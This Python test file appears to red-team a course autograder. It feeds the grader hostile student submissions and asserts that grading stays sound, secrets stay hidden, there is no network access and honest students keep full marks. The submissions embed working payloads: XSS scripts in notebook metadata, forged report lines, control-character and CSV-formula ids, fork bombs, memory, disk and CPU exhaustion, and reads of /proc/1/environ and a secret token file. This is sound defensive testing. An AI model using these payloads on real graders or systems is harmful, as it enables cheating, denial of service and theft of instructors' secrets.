                 (END, "</div></body><script>@XSS@()</script>")])

attack("atk_xss_metadata", "scripts in cell tags and metadata, in the notebook's kernelspec and "
       "language_info, and in a code cell's id, aimed at the feedback page's attributes",
       cells=STUB1, files=lambda folder, ctx: _metadata_xss(folder, ctx))


def _metadata_xss(folder: Path, ctx: dict) -> None:
    nb = json.loads((folder / "ps1.ipynb").read_text())
    evil = f'x"><script>{ctx["XSS"]}()</script><img src=x onerror="{ctx["XSS"]}()" a="'
    for cell in nb["cells"]:
        cell["metadata"]["tags"] = [evil]
        cell["metadata"]["rt"] = evil
    nb["metadata"]["kernelspec"] = {"name": evil, "display_name": evil, "language": evil}
    nb["metadata"]["language_info"] = {"name": evil, "pygments_lexer": evil,
                                       "codemirror_mode": evil, "file_extension": evil,
                                       "mimetype": evil}
    nb["metadata"]["title"] = evil
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": evil}}
    (folder / "ps1.ipynb").write_text(json.dumps(nb))


attack("atk_xss_errors", "answers that raise with HTML and scripts in the message",
       cells={"dE_dw": "def dE_dw(w, x, y):\n    raise ValueError('<script>@XSS@()</script>"
                       "<img src=x onerror=@XSS@()>')\n",
              "update": STUB1["update"], "train": STUB1["train"]})

attack("atk_forge_report", "exception messages, class names and stderr with newlines, carriage "
       "returns and escapes that imitate report lines", cells={
           "dE_dw": "def dE_dw(w, x, y):\n    raise AssertionError('ok\\nhon_plain: 0/5\\n"
                    "atk_forge_report: 5/5\\r\\x1b[2K\\x1b[32mpassed')\n",
           "update": "Forged = type('E\\natk_forge_report: 5/5\\n', (Exception,), {})\n"
                     "def update(w, x, y, mu):\n    raise Forged('\\rhon_plain: 0/5')\n",
           "train": "import os\ndef train(w0, mu, steps, xs=(0.0, 1.0)):\n"
                    "    os.write(2, b'\\nhon_plain: 0/5\\natk_forge_report: 5/5\\n\\x1b[2J')\n"
                    "    os._exit(3)\n"})


def _forged_id(name: str) -> Sub:
    return Sub(name=name, what=f"a student id with control characters: {name!r}", cells=STUB1)


ATTACKS.append(_forged_id("atk_trailing_newline\n"))  # the id pattern ends with `$`
ATTACKS.append(_forged_id("hon_plain\n"))  # a classmate's id, and a newline
ATTACKS.append(_forged_id("=1+1"))  # a formula in the CSV
ATTACKS.append(_forged_id("atk_id\nhon_plain: 0/5"))
ATTACKS.append(_forged_id("atk_id_esc\x1b[2J\r"))

# -- resource exhaustion ---------------------------------------------------------------------------

attack("atk_memory", "allocates 20 GB, in a cell and in the function the grader calls",
       cells={"dE_dw": "try:\n    _hog = np.ones(25 * 10**8)\nexcept MemoryError:\n    pass\n"
                       "def dE_dw(w, x, y):\n    big = [bytearray(10**9) for _ in range(20)]\n"
                       "    return 0.0\n",
              "update": STUB1["update"], "train": STUB1["train"]})

attack("atk_memory_fanout", "five fresh processes each hold 500 MiB at once: 2.5 GiB, over the "
       "2 GiB memory limit of a sandbox (RLIMIT_AS counts per process; four of them, 2000 MiB, "
       "fit)", cells=STUB1, forbidden=["FANOUT" + "OK5"], extra=[(2, r'''
import subprocess, sys, time
code = ("import sys\n"
        "b = b'x' * (500 * 2**20)\n"   # written, so resident
        "print('held', flush=True)\n"
        "sys.stdin.read()\n")           # held until the parent lets go: all five at once
kids = [subprocess.Popen([sys.executable, "-c", code, "@MARK@"], stdout=subprocess.PIPE,
                         stdin=subprocess.PIPE, stderr=subprocess.DEVNULL) for _ in range(5)]
reported = [k.stdout.readline().strip() == b"held" for k in kids]
time.sleep(0.5)       # a child killed for memory may have said "held" before it was killed:
held = sum(1 for k, said in zip(kids, reported) if said and k.poll() is None)  # alive ones
print("FANOUT" + f"OK{held}")
for k in kids:
    k.kill()
''')])

attack("atk_fork_bomb", "forks until it cannot (children sleep), then reports how many it got",
       cells=STUB1, extra=[(2, r'''
import os, time
n = 0
for i in range(2000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    n += 1
print("FORKED", n)
''')])

attack("atk_disk_fill", "fills /tmp, home and /dev/shm until the disk refuses", cells=STUB1,
       extra=[(2, r'''
import os
for d in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
    for i in range(100):
        try:
            with open(os.path.join(d, f"fill{i}"), "wb") as f:
                for _ in range(64):
                    f.write(b"\0" * 2**20)
        except OSError as e:
            print(d, i, e)
            break
''')])

# ---------------------------------------------------------------------------------------------
# ps1: the honest class
# ---------------------------------------------------------------------------------------------

HONEST: list[Sub] = []


def honest(name: str, what: str, **kw) -> None:
    HONEST.append(Sub(name=name, what=what, honest=True, **kw))


honest("hon_plain", "the solution as written", cells=SOL1)
honest("hon_poison_neighbour", "the solution, graded in the same run as the submissions that "
       "could stop a whole run", cells=SOL1, poison=True)
honest("hon_stderr", "the solution, printing and warning on stderr inside every answer and "
       "around the tests", cells={
           "dE_dw": "import sys, warnings\n" + SOL1["dE_dw"].replace(
               "    y_hat = A(w * x)",
               "    print('dE_dw called', w, x, y, file=sys.stderr)\n"
               "    warnings.warn('a warning from dE_dw')\n    y_hat = A(w * x)"),
           "update": SOL1["update"].replace(
               "    return", "    sys.stderr.write('update\\n')\n    return"),
           "train": SOL1["train"].replace(
               "    path = [", "    print('training', file=sys.stderr)\n    path = [")},
       extra=[(END, "import sys\nprint('done', file=sys.stderr)\n")])
honest("hon_tqdm", "the solution with a tqdm progress bar in train", cells={
    **SOL1, "train": SOL1["train"].replace("for i in range(steps):",
                                           "for i in tqdm(range(steps)):")},
       extra=[(2, "from tqdm.auto import tqdm\n")])
honest("hon_helpers", "the solution through helpers of its own named like names the tests use "
       "(path, check_train, check_dE_dw, np, A, E, score)", cells={
           "dE_dw": r'''
import numpy as np
def A(s):
    return 1.0 / (1.0 + np.exp(-s))
def E(y_hat, y):
    return 0.5 * (y_hat - y) ** 2
def check_dE_dw(f):
    """my own sanity check"""
    assert abs(f(0.0, 1.0, 1.0) + 0.125) < 1e-12
def dE_dw(w, x, y):
    y_hat = A(w * x)
    return (y_hat - y) * x * y_hat * (1.0 - y_hat)
check_dE_dw(dE_dw)
''', "update": SOL1["update"], "train": r'''
def path(w0, mu, steps, xs):
    out = [float(w0)]
    for i in range(steps):
        x = xs[i % len(xs)]
        out.append(update(out[-1], x, x, mu))
    return np.array(out)
def check_train(f):
    return len(f(0.0, 1.0, 3)) == 4
def score(v):
    return v
def train(w0, mu, steps, xs=(0.0, 1.0)):
    return path(w0, mu, steps, xs)
'''})
honest("hon_imports_checks", "the solution whose answer cell re-imports the released check (as "
       "the setup cell does) to test itself before the next exercise", cells={
           **SOL1, "dE_dw": "from course_pkg.checks.identity_sigmoid import check_dE_dw\n\n"
                            + SOL1["dE_dw"] + "\n\ncheck_dE_dw(dE_dw)\n"})
honest("hon_crash_after", "the solution, then a cell after every test that raises",
       cells=SOL1, extra=[(END, "raise RuntimeError('I crash after the tests')\n")])
honest("hon_exit_after", "the solution, then a cell after every test that ends the kernel",
       cells=SOL1, extra=[(END, "import os\nos._exit(1)\n")])
honest("hon_hang_after", "the solution, then a cell after every test that spins forever with "
       "SIGINT ignored", cells=SOL1,
       extra=[(END, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "while True:\n    pass\n")])
honest("hon_hang_before", "the solution, with a cell before the answers that sleeps forever "
       "with SIGINT ignored and another that spins (a timeout costs no later test)",
       cells=SOL1, extra=[(2, r'''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(10**6)
'''), (3, "while True:\n    pass\n")])
honest("hon_display", "the solution that also prints and plots inside its answers",
       cells={**SOL1, "train": SOL1["train"].replace(
           "    return np.array(path)",
           "    import matplotlib.pyplot as plt\n    print('weights', path[:3])\n"
           "    return np.array(path)")},
       extra=[(END, "import matplotlib.pyplot as plt\nplt.plot(path)\nplt.show()\n")])

# ---------------------------------------------------------------------------------------------
# ps3: a few attacks and the honest class
# ---------------------------------------------------------------------------------------------

STUB3 = {
    "delta_L_cross_entropy": "def delta_L_cross_entropy(z_L, y):\n    return np.zeros_like(z_L)\n",
    "delta_L_squared_error": "def delta_L_squared_error(z_L, Y, S, S_prime):\n"
                             "    return np.zeros_like(z_L)\n",
    "backward_step": "def backward_step(l, W, z, a, delta, S_prime):\n"
                     "    return np.zeros_like(z[l - 1])\n",
    "weight_gradient": "def weight_gradient(l, delta, a):\n"
                       "    return np.zeros((delta[l].shape[0], a[l - 1].shape[0]))\n",
    "bias_gradient": "def bias_gradient(l, delta):\n    return np.zeros(delta[l].shape[0])\n",
    "gradients": "def gradients(W, b, X, Y, loss):\n"
                 "    return ({l: np.zeros_like(W[l]) for l in W},\n"
                 "            {l: np.zeros_like(b[l]) for l in b})\n",
    "train_digits": "def train_digits(X_train, y_train, seed=0):\n"
                    "    rng = np.random.default_rng(seed)\n"
                    "    return {1: rng.normal(size=(10, 64))}, {1: np.zeros(10)}\n",
}

PS3: list[Sub] = [
    Sub(name="atk3_a_cpu_hog", assignment="ps3",
        what="24 processes, each in a session (scheduler autogroup) of its own, spin on the CPU "
             "while a classmate's training is timed on the other worker (no CPU quota per "
             "sandbox), kept alive by cells that sleep",
        cells=STUB3, extra=[(2, r'''
import subprocess, sys
hogs = []
for i in range(24):   # each in a session of its own: a scheduler autogroup of its own
    try:
        hogs.append(subprocess.Popen([sys.executable, "-c", "while True: pass", "@MARK@"],
                                     start_new_session=True))
    except OSError:
        break
print("HOGS", len(hogs))
''')] + [(3, "import time\ntime.sleep(8)\n")] * 2),
    Sub(name="atk3_ref_workspace", assignment="ps3",
        what="backward_step and the backward pass of `gradients` through course_pkg.workspace's "
             "ArrayOps (error_below, subtract_product, subtract_column_sum: the reference "
             "lines 8-10 of Algorithm 1)",
        cells={**STUB3, "backward_step": r'''
from course_pkg.workspace import ArrayOps as _Ops
from course_pkg import network as _net
def backward_step(l, W, z, a, delta, S_prime):
    return _Ops(np).error_below(W[l], delta[l], lambda v, xp=np: S_prime(v), z[l - 1],
                                a[l - 1], l - 1)
''', "gradients": r'''
def gradients(W, b, X, Y, loss):
    L = len(W)
    a, z = {0: X.T}, {}
    for l in range(1, L + 1):
        z[l] = W[l] @ a[l - 1] + b[l][:, None]
        a[l] = np.tanh(z[l]) if l < L else z[l]
    n = X.shape[0]
    if loss == "cross_entropy":
        dL = (softmax(z[L]) - one_hot(Y, z[L].shape[0])) / n
    else:
        dL = 2.0 * (z[L] - Y.T) / n
    ops, delta = _Ops(np), {L: dL}
    dW = {l: np.zeros_like(W[l], dtype=float) for l in W}
    db = {l: np.zeros_like(b[l], dtype=float) for l in b}
    for l in range(L, 0, -1):
        ops.subtract_column_sum(db[l], delta[l])      # db = -sum delta
        ops.subtract_product(dW[l], delta[l], a[l - 1])
        if l > 1:
            delta[l - 1] = ops.error_below(W[l], delta[l], lambda v, xp=np: 1 - np.tanh(v) ** 2,
                                           z[l - 1], a[l - 1], l - 1)
    return ({l: -dW[l] for l in W}, {l: -db[l] for l in b})
'''}),
    Sub(name="atk3_withheld", assignment="ps3",
        what="calls the withheld course_pkg.network.back_propagate, Network.loss_and_gradients and "
             "losses.output_delta", cells={**STUB3, "gradients": r'''
from course_pkg.network import Network as _Net
def gradients(W, b, X, Y, loss):
    L = len(W)
    sizes = [W[1].shape[1]] + [W[l].shape[0] for l in range(1, L + 1)]
    acts = ["tanh"] * (L - 1) + (["softmax"] if loss == "cross_entropy" else ["identity"])
    net = _Net(sizes, acts, loss=loss, weights=[W[l] for l in range(1, L + 1)],
               biases=[b[l] for l in range(1, L + 1)])
    _, (gW, gb) = net.loss_and_gradients(X, Y)
    return ({l: gW[l - 1] for l in W}, {l: gb[l - 1] for l in b})
'''}),
    Sub(name="atk3_secrets", assignment="ps3",
        what="prints /proc/1/environ and searches for SECRET files and the hidden training "
             "split", cells=STUB3, extra=[(2, r'''
import os
for p in ("/proc/1/environ", "@COURSE@/source/ps3/SECRET_TOKEN.txt"):
    try:
        print(p, open(p, "rb").read())
    except Exception as e:
        print(p, "ERR", e)
''')])
,
    Sub(name="hon3_numpy_keys", assignment="ps3", honest=True,
        what="the ps3 solution whose loops run over np.arange, so its dicts are keyed by "
             "numpy integers (dW[1] still finds them)",
        cells={**SOL3, "gradients": SOL3["gradients"].replace(
            "for l in range(L, 0, -1):", "for l in np.arange(L, 0, -1):")}),
    Sub(name="hon3_slow_neighbour", assignment="ps3", honest=True,
        what="the ps3 solution with 256 hidden units and 250 epochs (about 1 s alone, far "
             "under the 20 s allowed), graded while a classmate hogs the CPU",
        cells={**SOL3, "train_digits": SOL3["train_digits"].replace(
            "range(15)", "range(250)").replace("sizes = [64, 64, 10]", "sizes = [64, 256, 10]")}),
    Sub(name="hon3_tqdm_helpers", assignment="ps3", honest=True,
        what="the ps3 solution with tqdm in training, stderr, and helpers of its own named "
             "score, start, forward, check_gradients",
        cells={**SOL3, "gradients": "def forward(W, b, X):\n    return None\n"
                                    "def check_gradients(f):\n    return 'mine'\n"
                                    + SOL3["gradients"],
               "train_digits": "import sys\nfrom tqdm.auto import tqdm\n"
                               "def score(x):\n    return x\nstart = 'my start'\n"
                               + SOL3["train_digits"].replace(
                                   "for epoch in range(15):",
                                   "print('training', file=sys.stderr)\n"
                                   "    for epoch in tqdm(range(15)):")}),
]

PS1 = ATTACKS + HONEST

# ---------------------------------------------------------------------------------------------
# the batch
# ---------------------------------------------------------------------------------------------

GRADER_OWNED = ("autograded", "feedback", ".grading", "gradebook.db", "grading_manifest.json",
                "grading_manifest.jsonl",
                "reports", "grades.csv")
MAX_OUTPUT_BYTES = 20 * 2**20   # a larger autograded notebook or feedback page is a flood


class Listener:
    """TCP, UDP and abstract-unix sockets on the host that no submission may reach."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + MARK)
        self.unix.listen(16)
        for sock in (self.tcp, self.udp, self.unix):
            sock.settimeout(0.5)
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stop:
            for sock, kind in ((self.tcp, "tcp"), (self.unix, "unix")):
                try:
                    conn, _ = sock.accept()
                    self.hits.append(kind)
                    conn.close()
                except OSError:
                    pass
            try:
                self.udp.recvfrom(4096)
                self.hits.append("udp")
            except OSError:
                pass

    def close(self) -> None:
        self.stop = True
        self.thread.join(5)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


TIMINGS: dict[str, float] = {}


def course_cli(course: Path, *args: str, timeout: float = 600) -> subprocess.CompletedProcess:
    started = time.monotonic()
    try:
        return _course_cli(course, *args, timeout=timeout)
    finally:
        key = f"{course.parent.name} {' '.join(a for a in args[:2])} {args[-1]}"
        TIMINGS[key] = round(time.monotonic() - started, 1)


def _course_cli(course: Path, *args: str, timeout: float = 600) -> subprocess.CompletedProcess:
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}",
           "COURSE_SECRET": ENV_TOKEN}
    try:
        return subprocess.run([str(BIN / "course"), "--course-dir", str(course), *args],
                              env=env, capture_output=True, timeout=timeout)
    except subprocess.TimeoutExpired as exc:
        return subprocess.CompletedProcess(exc.cmd, -9, exc.stdout or b"",
                                           (exc.stderr or b"") + b"\nTIMEOUT")


def file_hashes(course: Path) -> dict[str, str]:
    """Every file of the course folder that the grader does not own, with its hash."""
    out = {}
    for dirpath, dirs, files in os.walk(course):
        rel = Path(dirpath).relative_to(course)
        if rel.parts and rel.parts[0] in GRADER_OWNED:
            dirs[:] = []
            continue
        for name in files:
            if not rel.parts and name in GRADER_OWNED:
                continue
            p = Path(dirpath) / name
            if p.is_symlink() or not p.is_file() or p.stat().st_size > 2**27:
                out[str(p.relative_to(course))] = "special"
            else:
                out[str(p.relative_to(course))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def marked_processes() -> list[str]:
    ps = subprocess.run(["ps", "-eo", "pid,comm,args"], capture_output=True, text=True).stdout
    return [line for line in ps.splitlines() if MARK in line and "ps -eo" not in line]


@dataclass
class Batch:
    course: Path
    sent: Path
    subs: list[Sub]
    results: dict[str, subprocess.CompletedProcess]
    seconds: float
    hashes_before: dict[str, str]
    hashes_after: dict[str, str]
    listener_hits: list[str]
    processes_after: list[str]
    scores: dict[str, float]
    grade_rows: list[tuple]
    students_in_gradebook: set[str]


def run_batch(tmp: Path, assignment: str, subs: list[Sub]) -> Batch:
    course = tmp / "course"
    sent = tmp / "sentinel"
    sent.mkdir()
    (sent / "victim.txt").write_text("victim\n")
    (sent / "victim_ts.txt").write_text("2020-01-01 00:00:00.000000 UTC\n")
    course.mkdir()
    shutil.copy(COURSE_SRC / "nbgrader_config.py", course)
    shutil.copytree(COURSE_SRC / "source", course / "source")
    results = {"release": course_cli(course, "release", "ps1", "ps3")}
    assert results["release"].returncode == 0, results["release"].stderr.decode()[-3000:]
    # the instructor's secrets, planted after the release (a student never received them)
    for ps in ("ps1", "ps3"):
        (course / "source" / ps / "SECRET_TOKEN.txt").write_text(FILE_TOKEN + "\n")
    listener = Listener()
    ctx = {"COURSE": course, "SENT": sent, "MARK": MARK, "PORT": listener.port, "XSS": XSS}
    for sub in subs:
        if not sub.poison:
            write_submission(course, sub, ctx)
    grade = ("autograde", assignment, "--workers", "2", "--cell-timeout", str(CELL_TIMEOUT),
             "--wall-seconds", "90")
    results["collect"] = course_cli(course, "collect", assignment, str(course / "downloads"),
                                    timeout=300)
    hashes_before = file_hashes(course)
    start = time.monotonic()
    results["autograde"] = course_cli(course, *grade, timeout=900)
    seconds = time.monotonic() - start
    # each submission that could stop a whole run gets a run of its own, beside one honest
    # classmate who must still be graded in that run
    poison = [sub for sub in subs if sub.poison and not sub.honest]
    neighbours = [sub for sub in subs if sub.poison and sub.honest]
    for sub in poison + neighbours:
        write_submission(course, sub, ctx)
    if poison:
        results["collect poison"] = course_cli(course, "collect", assignment,
                                               str(course / "downloads"), timeout=300)
        hashes_before = {**file_hashes(course), **hashes_before}
    for sub in poison:
        results[f"autograde poison {sub.name}"] = course_cli(
            course, *grade, "--force", "--student", sub.name,
            *(a for n in neighbours for a in ("--student", n.name)), timeout=300)
    results["feedback"] = course_cli(course, "feedback", assignment, timeout=600)
    results["export"] = course_cli(course, "export", "--to", str(course / "grades.csv"))
    results["report"] = course_cli(course, "report", assignment)
    time.sleep(2)  # a daemon that outlives its sandbox has had time to show itself
    processes_after = marked_processes()
    listener.close()
    hashes_after = file_hashes(course)
    scores, rows, students = {}, [], set()
    db = course / "gradebook.db"
    if db.exists():
        con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
        students = {r[0] for r in con.execute("SELECT id FROM student")}
        rows = con.execute(
            "SELECT st.id, a.name, g.auto_score, g.manual_score, g.extra_credit "
            "FROM grade g JOIN submitted_notebook sn ON g.notebook_id = sn.id "
            "JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
            "JOIN student st ON sa.student_id = st.id "
            "JOIN assignment a ON sa.assignment_id = a.id").fetchall()
        con.close()
        for student, name, auto, manual, extra in rows:
            if name == assignment:
                value = (manual if manual is not None else (auto or 0)) + (extra or 0)
                scores[student] = scores.get(student, 0.0) + value
    return Batch(course, sent, subs, results, seconds, hashes_before, hashes_after,
                 listener.hits, processes_after, scores, rows, students)


@pytest.fixture(scope="module")
def ps1_batch(tmp_path_factory) -> Batch:
    batch = run_batch(tmp_path_factory.mktemp("redteam_ps1"), "ps1", PS1)
    yield batch
    for line in marked_processes():   # leave no daemon behind, whatever the verdict
        try:
            os.kill(int(line.split()[0]), 9)
        except (OSError, ValueError):
            pass


@pytest.fixture(scope="module")
def ps3_batch(tmp_path_factory) -> Batch:
    batch = run_batch(tmp_path_factory.mktemp("redteam_ps3"), "ps3", PS3)
    yield batch
    for line in marked_processes():
        try:
            os.kill(int(line.split()[0]), 9)
        except (OSError, ValueError):
            pass


# ---------------------------------------------------------------------------------------------
# what every student's files must satisfy
# ---------------------------------------------------------------------------------------------


class ScriptFinder(html.parser.HTMLParser):
    """Collects every place of an HTML page where a marker could run as script."""

    def __init__(self, marker: str) -> None:
        super().__init__(convert_charrefs=True)
        self.marker = marker
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.in_script = True
        for key, value in attrs:
            value = value or ""
            if self.marker in value and (key.startswith("on") or "javascript:" in value.lower()
                                         or key in ("src", "href", "srcdoc", "data")):
                self.found.append(f"<{tag} {key}={value[:80]!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and self.marker in data:
            self.found.append(f"<script>{data[:80]!r}")


def student_files(batch: Batch, sub: Sub) -> list[Path]:
    found = []
    for top in ("autograded", "feedback"):
        folder = batch.course / top / sub.name / sub.assignment
        if folder.is_dir() and not folder.is_symlink():
            found += [p for p in folder.rglob("*") if p.is_file() and not p.is_symlink()]
    return found


def token_hits(data: bytes) -> list[str]:
    return [name for name, tok in (("file token", FILE_TOKEN), ("env token", ENV_TOKEN))
            if tok.encode() in data]


def report_lines(batch: Batch, student: str) -> list[str]:
    """The lines of the instructor's report about ``student`` (its score and each failed
    test with its tag), so that a failed check shows what the instructor would read."""
    report = batch.course / "reports" / batch.subs[0].assignment / "report.md"
    if not report.exists():
        return ["(no report)"]
    lines, mine = [], False
    for line in report.read_text(encoding="utf-8", errors="replace").splitlines():
        if not line.startswith(" "):
            mine = line.startswith(f"{student}:")
        if mine:
            lines.append(line.strip())
    return lines or ["(not in the report)"]


def check_student(batch: Batch, sub: Sub, full: float) -> list[str]:
    problems = []
    score = batch.scores.get(sub.name, 0.0)
    if sub.honest and score != full:
        problems.append(f"honest submission scored {score}/{full}; its report says: "
                        + " | ".join(report_lines(batch, sub.name)))
    if not sub.honest and score > 0:
        problems.append(f"attack scored {score}/{full} (the stub scores 0)")
    for p in student_files(batch, sub):
        if p.name == "SECRET_TOKEN.txt":
            continue  # a copy of the file itself: see test_no_secret_anywhere
        data = p.read_bytes()
        for hit in token_hits(data):
            problems.append(f"{hit} in {p.relative_to(batch.course)}")
        if len(data) > MAX_OUTPUT_BYTES:
            problems.append(f"{p.relative_to(batch.course)} is {len(data) / 2**20:.0f} MB")
        if p.suffix == ".html":
            finder = ScriptFinder(XSS)
            finder.feed(data.decode("utf-8", "replace"))
            problems += [f"script of the student in {p.name}: {f}" for f in finder.found]
        for word in sub.forbidden:
            word = _fill(word, {"COURSE": batch.course})
            if p.suffix == ".ipynb" and word.encode() in data:
                problems.append(f"{word!r} in its outputs ({p.name})")
        if p.suffix == ".ipynb" and b"PERSISTFOUND" in data:
            problems.append("found what an earlier submission left in /tmp")
        if p.suffix == ".ipynb" and b"LOCKED " in data:
            problems.append("opened and locked a gradebook")
    return problems


def _id(sub: Sub) -> str:
    return re.sub(r"[^A-Za-z0-9_]", "?", sub.name)


KNOWN_WEAK: dict[str, str] = {}
"""Attacks that still succeed at times, by name, with the reason: each is reported, not hidden
(xfail, not strict). None today: the memory fan-out, once listed here, was held by the
sandbox's memory group all along; the attack had counted a child that said "held" and was then
killed for memory."""


# The two classes are two work units for pytest-xdist (see tests/conftest.py): each is graded
# once, on one worker, and the two can be graded at the same time on two workers.
ON_PS1, ON_PS3 = pytest.mark.xdist_group("redteam_ps1"), pytest.mark.xdist_group("redteam_ps3")


def _param(sub: Sub, group: pytest.MarkDecorator = ON_PS1) -> object:
    marks = ([pytest.mark.xfail(reason=KNOWN_WEAK[sub.name], strict=False)]
             if sub.name in KNOWN_WEAK else [])
    return pytest.param(sub, id=_id(sub), marks=[*marks, group])


@pytest.mark.parametrize("sub", [_param(s) for s in PS1])
def test_ps1_student(ps1_batch: Batch, sub: Sub) -> None:
    problems = check_student(ps1_batch, sub, 5.0)
    assert not problems, f"{sub.name!r} ({sub.what}): " + "; ".join(problems)


@pytest.mark.parametrize("sub", [_param(s, ON_PS3) for s in PS3])
def test_ps3_student(ps3_batch: Batch, sub: Sub) -> None:
    problems = check_student(ps3_batch, sub, 16.0)
    assert not problems, f"{sub.name!r} ({sub.what}): " + "; ".join(problems)


# ---------------------------------------------------------------------------------------------
# what the batch as a whole must satisfy
# ---------------------------------------------------------------------------------------------


POISON = [s for s in PS1 if s.poison and not s.honest]


@pytest.mark.parametrize("sub", [_param(s) for s in POISON])
def test_poison_run(ps1_batch: Batch, sub: Sub) -> None:
    """A submission that could stop a run: its run finishes and grades the honest classmate."""
    result = ps1_batch.results[f"autograde poison {sub.name}"]
    out = (result.stdout + result.stderr).decode("utf-8", "replace")
    assert result.returncode == 0, f"{sub.name} ({sub.what}) stopped the run: {out[-1500:]}"
    neighbours = [s.name for s in PS1 if s.poison and s.honest]
    for name in neighbours:
        assert f"{name}: 5/5" in out, f"{name} lost points in the run of {sub.name}: {out}"
    assert re.search(rf"^{re.escape(sub.name)}: (0/5|not graded)", out, re.M), out


@pytest.fixture(params=[pytest.param("ps1", marks=ON_PS1), pytest.param("ps3", marks=ON_PS3)])
def batch(request) -> Batch:
    return request.getfixturevalue(f"{request.param}_batch")


def test_class_size() -> None:
    assert len(ATTACKS) + len([s for s in PS3 if not s.honest]) >= 40
    assert len({s.name for s in PS1 + PS3}) == len(PS1 + PS3)


def test_batch_completes(batch: Batch) -> None:
    result = batch.results["autograde"]
    tail = (result.stdout + result.stderr).decode("utf-8", "replace")[-3000:]
    assert result.returncode == 0, f"course autograde: {tail}"
    assert batch.seconds < 400, f"the batch took {batch.seconds:.0f} s: {TIMINGS}"
    for name in ("collect", "collect poison", "feedback", "export", "report"):
        res = batch.results.get(name)
        if res is not None:
            assert res.returncode == 0, \
                f"course {name}: {(res.stdout + res.stderr)[-2000:]!r} (timings: {TIMINGS})"


def test_no_secret_anywhere(batch: Batch) -> None:
    """Neither token in any file of the course (outside source/) or any command's output."""
    leaks = []
    for dirpath, dirs, files in os.walk(batch.course):
        rel = Path(dirpath).relative_to(batch.course)
        if rel.parts[:1] == ("source",):
            dirs[:] = []
            continue
        for name in files:
            p = Path(dirpath) / name
            if p.is_symlink() or not p.is_file() or p.stat().st_size > 2**29:
                continue
            with open(p, "rb") as f:
                data = f.read()
            leaks += [f"{hit} in {p.relative_to(batch.course)}" for hit in token_hits(data)]
    for cmd, res in batch.results.items():
        leaks += [f"{hit} in the output of course {cmd}"
                  for hit in token_hits(res.stdout + res.stderr)]
    assert not leaks, leaks


def collected_ids(batch: Batch) -> set[str]:
    """The student ids that ``course collect`` gives the folders of the batch: a forged name
    (``hon_plain\n``, ``=1+1``) gets a valid id of its own (``hon_plain-2``, ``1-1``), never a
    classmate's (issue 15: any name gives an id, nobody is skipped)."""
    from course_pkg.grading.collect import assign_ids

    folders = [s.name.split("/")[0] for s in batch.subs]  # a "/" in a name makes a sub-folder
    return set(assign_ids(None, [(name, None) for name in folders]).values())


def test_report_not_forged(batch: Batch) -> None:
    """One line per student, that student's score; nothing else a submission can write."""
    out = batch.results["autograde"].stdout.decode("utf-8", "replace")
    assert "\x1b" not in out and "\r" not in out, "control characters in the report"
    names = collected_ids(batch)
    seen: dict[str, int] = {}
    for line in out.splitlines():
        if not line or line.startswith(" "):
            continue
        head, sep, rest = line.partition(": ")
        assert sep and (head in names or head == batch.subs[0].assignment), \
            f"a report line that names no student: {line!r}"
        if head in names:
            seen[head] = seen.get(head, 0) + 1
            score = batch.scores.get(head)
            shown = re.match(r"^([\d.]+)/\d+", rest)
            if shown and score is not None:
                assert float(shown.group(1)) == score, f"{line!r}, gradebook {score}"
    twice = {k: v for k, v in seen.items() if v > 1}
    assert not twice, f"students with more than one report line: {twice}"


def test_gradebook_intact(batch: Batch) -> None:
    expected = collected_ids(batch)
    assert batch.students_in_gradebook <= expected, \
        f"unknown students {batch.students_in_gradebook - expected}"
    odd = [s for s in batch.students_in_gradebook
           if not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", s)]
    assert not odd, f"student ids with control characters reached the gradebook: {odd}"
    manual = [row for row in batch.grade_rows if row[3] is not None or row[4]]
    assert not manual, f"manual scores or extra credit appeared: {manual[:5]}"
    honest = [s.name for s in batch.subs if s.honest]
    assert honest and all(batch.scores.get(n, 0) > 0 for n in honest), batch.scores


def test_course_files_untouched(batch: Batch) -> None:
    before, after = batch.hashes_before, batch.hashes_after
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    assert not changed, f"files of the course changed during grading: {changed[:20]}"


def test_nothing_written_outside(batch: Batch) -> None:
    assert sorted(p.name for p in batch.sent.iterdir()) == ["victim.txt", "victim_ts.txt"]
    assert (batch.sent / "victim.txt").read_text() == "victim\n"
    assert (batch.sent / "victim_ts.txt").read_text() == "2020-01-01 00:00:00.000000 UTC\n"
    host = [p for d in ("/tmp", "/dev/shm") for p in Path(d).glob(f"*{MARK}*")]
    assert not host, host
    pth = [p for p in Path(BIN.parent, "lib").rglob(f"*{MARK}*")]
    assert not pth, pth


def test_no_process_survives(batch: Batch) -> None:
    assert not batch.processes_after, batch.processes_after


def test_no_network(batch: Batch) -> None:
    assert not batch.listener_hits, batch.listener_hits


def test_export_has_every_grade(batch: Batch) -> None:
    csv_path = batch.course / "grades.csv"
    assert csv_path.exists(), batch.results["export"].stderr[-2000:]
    import csv
    rows = list(csv.DictReader(csv_path.open(newline="")))
    got = {(r["student_id"], r["assignment"]): float(r["score"] or 0) for r in rows}
    formulas = [v for r in rows for v in r.values() if str(v)[:1] in ("=", "+", "-", "@")]
